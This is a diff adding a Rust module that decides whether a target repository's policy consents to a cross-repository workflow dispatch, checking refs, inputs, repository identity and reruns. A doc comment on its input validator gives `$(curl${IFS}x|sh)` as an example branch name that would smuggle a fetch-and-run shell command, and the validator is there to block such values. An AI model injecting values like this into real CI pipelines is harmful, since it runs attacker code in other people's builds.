@@ -1,0 +1,198 @@
+//! The target's side: does one inbound target accept all of it.
+
+use super::filter::{Filter, misfit};
+use super::known::{Edge, Identity};
+use super::source::Case;
+use super::target::value_of;
+use crate::name::GitRef;
+use crate::policy::{InboundRule, InboundTarget, Policy, Reruns, Source, Target, WorkflowRunSource};
+use crate::quote::{quote, quote_all};
+use crate::reason::Reason;
+use crate::request::WorkflowDispatch;
+
+/// What is asked of the target's side.
+pub(super) struct Consent<'a> {
+    pub(super) case: &'a Case<'a>,
+    /// The outbound rule's source.
+    pub(super) source: &'a WorkflowRunSource,
+    /// The outbound rule's target.
+    pub(super) target: &'a Target,
+    pub(super) request: &'a WorkflowDispatch,
+    /// The repository behind the target's name.
+    pub(super) identity: Identity,
+    /// The repositories behind both names, the first time.
+    pub(super) edge: Option<Edge>,
+    /// The newest run that this lane dispatched, for a re-run.
+    pub(super) newest: Option<u64>,
+}
+
+/// Why an inbound rule is no consent.
+pub(super) struct Gap {
+    nearness: Nearness,
+    pub(super) reason: Reason,
+    pub(super) message: String,
+    /// The line in the target's policy file.
+    pub(super) line: Option<u32>,
+}
+
+/// How near a rule came to consent. The denial names the nearest, the first of equals.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
+enum Nearness {
+    Nothing,
+    Repository,
+    Workflow,
+    Target(Filter),
+    Filters,
+    Ref,
+    Inputs,
+    Values,
+    Identity,
+}
+
+impl Consent<'_> {
+    /// The first inbound target that accepts all. A decision pays nothing for rules about other sources.
+    pub(super) fn find<'p>(&self, policy: &'p Policy) -> Result<&'p InboundTarget, Gap> {
+        let (case, start) = (self.case, &self.target.start);
+        let mut nearest = gap(
+            Nearness::Nothing,
+            Reason::InboundNotAuthorized,
+            format!("no inbound rule of {} names {}", quote(&self.target.repository), quote(case.repository())),
+        );
+        let mut keep = |gap: Gap, line| {
+            if gap.nearness > nearest.nearness {
+                nearest = Gap { line: Some(line), ..gap };
+            }
+        };
+        for rule in policy.inbound_from(case.repository()) {
+            let Source::WorkflowRun(source) = &rule.source;
+            if source.workflow != *case.workflow {
+                let (named, got) = (quote(&source.workflow), quote(case.workflow));
+                let message = format!("the inbound rule names {named} of {}, and {got} ran", quote(case.repository()));
+                keep(gap(Nearness::Repository, Reason::InboundNotAuthorized, message), rule.line);
+                continue;
+            }
+            let mut named = false;
+            for target in rule.targets.iter().filter(|target| target.start == *start) {
+                named = true;
+                match self.gap(rule, source, target) {
+                    None => return Ok(target),
+                    Some(gap) => keep(gap, target.line),
+                }
+            }
+            if !named {
+                let accepted = quote_all(rule.targets.iter().map(|target| &target.start));
+                let message = format!("the inbound rule accepts only {accepted}, and not {}", quote(start));
+                keep(gap(Nearness::Workflow, Reason::InboundNotAuthorized, message), rule.line);
+            }
+        }
+        Err(nearest)
+    }
+
+    /// The first condition that an inbound target does not meet.
+    fn gap(&self, rule: &InboundRule, source: &WorkflowRunSource, target: &InboundTarget) -> Option<Gap> {
+        self.filter_gap(source)
+            .or_else(|| self.ref_gap(target))
+            .or_else(|| self.input_gap(target))
+            .or_else(|| self.value_gap())
+            .or_else(|| self.identity_gap(rule))
+            .or_else(|| self.rerun_gap(source))
+    }
+
+    fn filter_gap(&self, source: &WorkflowRunSource) -> Option<Gap> {
+        let (filter, message) = misfit(self.case, source, Some(self.source), "the inbound rule")?;
+        Some(gap(Nearness::Target(filter), Reason::InboundNotAuthorized, message))
+    }
+
+    fn ref_gap(&self, target: &InboundTarget) -> Option<Gap> {
+        let accepted = target.accept_refs.as_ref()?;
+        let git_ref = self.request.git_ref();
+        if accepted.matches(branch_or_ref(git_ref)) || accepted.matches(git_ref.as_str()) {
+            return None;
+        }
+        let message =
+            format!("the ref is {}, and the target accepts only {}", quote(git_ref), quote_all(accepted.patterns()));
+        Some(gap(Nearness::Filters, Reason::RefNotAccepted, message))
+    }
+
+    fn input_gap(&self, target: &InboundTarget) -> Option<Gap> {
+        let sent = self.request.inputs().keys();
+        let refused: Vec<_> = sent.filter(|name| !target.accept_inputs.contains_key(*name)).collect();
+        if refused.is_empty() {
+            return None;
+        }
+        let accepted = match target.accept_inputs.is_empty() {
+            true => "none".to_owned(),
+            false => format!("only {}", quote_all(target.accept_inputs.keys())),
+        };
+        let message = format!("the inputs {} are not accepted: the target accepts {accepted}", quote_all(refused));
+        Some(gap(Nearness::Ref, Reason::InputsNotAccepted, message))
+    }
+
+    /// Whatever the target accepts, what a stranger can choose must not be able to become code.
+    fn value_gap(&self) -> Option<Gap> {
+        for (name, template) in &self.target.inputs {
+            for variable in template.variables().filter(|variable| variable.chosen_by_stranger()) {
+                let value = value_of(self.case, variable).unwrap_or_default();
+                if !harmless(&value) {
+                    let message = format!(
+                        "the input {} has the value {} of {}, which anybody can choose and which is not made of letters, \
+                         digits and `._/@+#=,-`, or starts with `-`",
+                        quote(name),
+                        quote(value),
+                        quote(variable),
+                    );
+                    return Some(gap(Nearness::Inputs, Reason::ValueNotAccepted, message));
+                }
+            }
+        }
+        None
+    }
+
+    /// Consent attaches to the repositories, not to their names. A `repository_id` in a rule confirms the repository.
+    fn identity_gap(&self, rule: &InboundRule) -> Option<Gap> {
+        let changed = |message| Some(gap(Nearness::Values, Reason::RepositoryIdentityChanged, message));
+        if let Identity::Verified { id, .. } = self.identity {
+            let expected = self.target.repository_id.or(self.edge.map(|edge| edge.target));
+            if let Some(expected) = expected.filter(|expected| *expected != id) {
+                let name = quote(&self.target.repository);
+                return changed(format!(
+                    "{name} is now repository {id}, and the source's consent is for repository {expected}"
+                ));
+            }
+        }
+        let id = self.case.event.repository.id;
+        let expected = rule.repository_id.or(self.edge.map(|edge| edge.source));
+        let expected = expected.filter(|expected| *expected != id)?;
+        let name = quote(self.case.repository());
+        changed(format!("{name} is now repository {id}, and the target's consent is for repository {expected}"))
+    }
+
+    fn rerun_gap(&self, source: &WorkflowRunSource) -> Option<Gap> {
+        let (run, newest) = (self.case.run, self.newest?);
+        let any = self.source.reruns == Reruns::Any && source.reruns == Reruns::Any;
+        if run.attempt <= 1 || newest <= run.number || any {
+            return None;
+        }
+        let (number, attempt) = (run.number, run.attempt);
+        let message = format!(
+            "this is attempt {attempt} of run number {number}, and run number {newest} has been dispatched since; both sides \
+             would have to say `reruns: any`",
+        );
+        Some(gap(Nearness::Identity, Reason::SourceRunSuperseded, message))
+    }
+}
+
+fn gap(nearness: Nearness, reason: Reason, message: String) -> Gap {
+    Gap { nearness, reason, message, line: None }
+}
+
+/// What patterns see of a ref: the branch of `refs/heads/...`. A tag must be accepted as `refs/tags/...` where it is
+/// written so: it could have the name of an accepted branch.
+fn branch_or_ref(git_ref: &GitRef) -> &str {
+    git_ref.as_str().strip_prefix("refs/heads/").unwrap_or(git_ref.as_str())
+}
+
+/// Whether a value can be pasted into a shell command without becoming one. `$(curl${IFS}x|sh)` is a legal branch name.
+fn harmless(value: &str) -> bool {
+    !value.starts_with('-') && value.bytes().all(|b| b.is_ascii_alphanumeric() || b"._/@+#=,-".contains(&b))
+}
